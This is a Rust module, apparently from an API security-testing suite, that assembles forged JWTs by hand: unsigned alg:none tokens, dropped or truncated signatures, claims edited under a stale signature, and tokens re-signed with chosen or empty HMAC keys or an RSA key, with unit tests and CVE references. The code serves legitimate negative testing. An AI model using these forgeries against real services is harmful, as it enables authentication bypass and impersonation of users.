//! Forged variants of a captured JWT, for the negative steps and the attacks of a suite: unsigned
//! (`alg: none`), signature dropped or cut short, claims edited under the old signature, re-signed
//! with a chosen HMAC key (an empty one too) or RSA key. Pure functions on the compact form:
//! `jsonwebtoken` cannot produce most of these tokens, so they are assembled by hand. The attack
//! catalogue that uses them is [`crate::attack`].

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hmac::{Hmac, Mac as _};
use serde_json::{Map, Value};
use sha2::{Sha256, Sha384, Sha512};

use super::RsaSigningKey;

/// A token taken apart for editing: header and claims as JSON objects, the signature as sent.
#[derive(Debug, Clone, PartialEq)]
pub struct Draft {
    pub header: Map<String, Value>,
    pub claims: Map<String, Value>,
    pub signature: String,
}

impl Draft {
    /// Takes `token` apart, or says why it is not a JWT with JSON-object header and claims.
    pub fn from_token(token: &str) -> Result<Draft, String> {
        let decoded = super::decode(token)?;
        let (Value::Object(header), Value::Object(claims)) = (decoded.header, decoded.claims)
        else {
            return Err("not a JWT: the header and claims must be JSON objects".to_owned());
        };
        Ok(Draft {
            header,
            claims,
            signature: decoded.signature,
        })
    }

    /// `base64url(header).base64url(claims)`: what a signature covers.
    pub fn signing_input(&self) -> String {
        format!("{}.{}", encode(&self.header), encode(&self.claims))
    }

    /// The compact token with `signature` as its third part, whatever it signs.
    pub fn with_signature(&self, signature: &str) -> String {
        format!("{}.{signature}", self.signing_input())
    }

    /// The compact token with the signature it came with: stale if header or claims were edited.
    pub fn with_old_signature(&self) -> String {
        self.with_signature(&self.signature)
    }

    /// Sets `alg` and signs with the HMAC key `key`, which may be empty (CVE-2019-20933).
    pub fn sign_hmac(&mut self, alg: HmacAlg, key: &[u8]) -> String {
        self.header
            .insert("alg".to_owned(), Value::String(alg.name().to_owned()));
        let input = self.signing_input();
        let signature = hmac_signature(alg, key, input.as_bytes());
        format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature))
    }

    /// Sets `alg: RS256` and signs with `key`.
    pub fn sign_rs256(&mut self, key: &RsaSigningKey) -> String {
        self.header
            .insert("alg".to_owned(), Value::String("RS256".to_owned()));
        let input = self.signing_input();
        let signature = key.sign(input.as_bytes());
        format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature))
    }
}

/// The HMAC algorithms of JWS (RFC 7518 §3.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HmacAlg {
    Hs256,
    Hs384,
    Hs512,
}

impl HmacAlg {
    pub fn name(self) -> &'static str {
        match self {
            HmacAlg::Hs256 => "HS256",
            HmacAlg::Hs384 => "HS384",
            HmacAlg::Hs512 => "HS512",
        }
    }

    /// The algorithm a header's `alg` names, if it is an HMAC one.
    pub fn from_name(name: &str) -> Option<HmacAlg> {
        match name {
            "HS256" => Some(HmacAlg::Hs256),
            "HS384" => Some(HmacAlg::Hs384),
            "HS512" => Some(HmacAlg::Hs512),
            _ => None,
        }
    }
}

/// The raw HMAC of `message` under `key`; any key length is allowed, empty included.
pub fn hmac_signature(alg: HmacAlg, key: &[u8], message: &[u8]) -> Vec<u8> {
    // `new_from_slice` accepts every length for HMAC: the error branch cannot happen, and an
    // empty signature would only make a forged token fail to verify.
    match alg {
        HmacAlg::Hs256 => Hmac::<Sha256>::new_from_slice(key)
            .map(|mac| mac.chain_update(message).finalize().into_bytes().to_vec())
            .unwrap_or_default(),
        HmacAlg::Hs384 => Hmac::<Sha384>::new_from_slice(key)
            .map(|mac| mac.chain_update(message).finalize().into_bytes().to_vec())
            .unwrap_or_default(),
        HmacAlg::Hs512 => Hmac::<Sha512>::new_from_slice(key)
            .map(|mac| mac.chain_update(message).finalize().into_bytes().to_vec())
            .unwrap_or_default(),
    }
}

fn encode(part: &Map<String, Value>) -> String {
    URL_SAFE_NO_PAD.encode(Value::Object(part.clone()).to_string())
}

/// The token with `alg` set to `alg` (`none`, `None`, `nOnE`…) and no signature: `h.p.`.
pub fn alg_none(token: &str, alg: &str) -> Result<String, String> {
    let mut draft = Draft::from_token(token)?;
    draft
        .header
        .insert("alg".to_owned(), Value::String(alg.to_owned()));
    Ok(draft.with_signature(""))
}

/// The token as it was, byte for byte, without its signature: `h.p.` (CVE-2020-28042).
pub fn drop_signature(token: &str) -> Result<String, String> {
    Draft::from_token(token)?;
    let (signed, _) = token
        .trim()
        .rsplit_once('.')
        .ok_or_else(|| "not a JWT: expected three dot-separated parts".to_owned())?;
    Ok(format!("{signed}."))
}

/// The token as it was with the last `chars` characters of its signature cut off: a server that
/// decodes without verifying accepts it.
pub fn truncate_signature(token: &str, chars: usize) -> Result<String, String> {
    let draft = Draft::from_token(token)?;
    if draft.signature.len() <= chars {
        return Err(format!(
            "the signature has {} characters, too few to cut {chars}",
            draft.signature.len()
        ));
    }
    let token = token.trim();
    Ok(token[..token.len() - chars].to_owned())
}

/// The token with one claim set to `value`, under the old signature: a tampered token.
pub fn set_claim(token: &str, claim: &str, value: Value) -> Result<String, String> {
    let mut draft = Draft::from_token(token)?;
    draft.claims.insert(claim.to_owned(), value);
    Ok(draft.with_old_signature())
}

/// The token's header (with `alg: HS256`) and claims, signed with the HMAC key `key`.
pub fn sign_hs256(token: &str, key: &str) -> Result<String, String> {
    if key.is_empty() {
        return Err("an empty HMAC key cannot sign here".to_owned());
    }
    let mut draft = Draft::from_token(token)?;
    Ok(draft.sign_hmac(HmacAlg::Hs256, key.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey, Header, Validation};
    use serde_json::json;

    fn token(key: &str) -> String {
        let claims = json!({ "sub": "alice", "exp": 4_000_000_000u64 });
        let key = EncodingKey::from_secret(key.as_bytes()).expect("key");
        jsonwebtoken::encode(&Header::new(Algorithm::HS256), &claims, &key).expect("signs")
    }

    fn verifies(token: &str, key: &str) -> bool {
        let key = DecodingKey::from_secret(key.as_bytes()).expect("key");
        jsonwebtoken::decode::<Value>(token, &key, &Validation::new(Algorithm::HS256)).is_ok()
    }

    #[test]
    fn alg_none_keeps_the_claims_and_drops_the_signature() {
        let forged = alg_none(&token("k"), "nOnE").expect("forges");
        assert!(forged.ends_with('.'));
        let decoded = crate::jwt::decode(&forged).expect("decodes");
        assert_eq!(decoded.header["alg"], "nOnE");
        assert_eq!(decoded.header["typ"], "JWT");
        assert_eq!(decoded.claims["sub"], "alice");
        assert_eq!(decoded.signature, "");
    }

    #[test]
    fn a_dropped_signature_leaves_header_and_claims() {
        let original = token("k");
        let forged = drop_signature(&original).expect("forges");
        let prefix = original.rsplit_once('.').expect("three parts").0;
        assert_eq!(forged, format!("{prefix}."));
    }

    #[test]
    fn a_set_claim_keeps_the_old_signature_which_no_longer_verifies() {
        let original = token("k");
        let forged = set_claim(&original, "sub", json!("mallory")).expect("forges");
        assert_eq!(forged.rsplit('.').next(), original.rsplit('.').next());
        assert_eq!(
            crate::jwt::decode(&forged).expect("decodes").claims["sub"],
            "mallory"
        );
        assert!(verifies(&original, "k") && !verifies(&forged, "k"));
    }

    #[test]
    fn re_signing_with_a_key_verifies_with_that_key_only() {
        let tampered = set_claim(&token("k"), "sub", json!("mallory")).expect("forges");
        let resigned = sign_hs256(&tampered, "other").expect("signs");
        assert!(verifies(&resigned, "other"));
        assert!(!verifies(&resigned, "k"));
        assert!(sign_hs256(&tampered, "").is_err());
    }

    #[test]
    fn what_is_not_a_jwt_is_an_error() {
        assert!(alg_none("abc", "none").is_err());
        assert!(set_claim("a.b.c", "sub", json!(1)).is_err());
    }
}
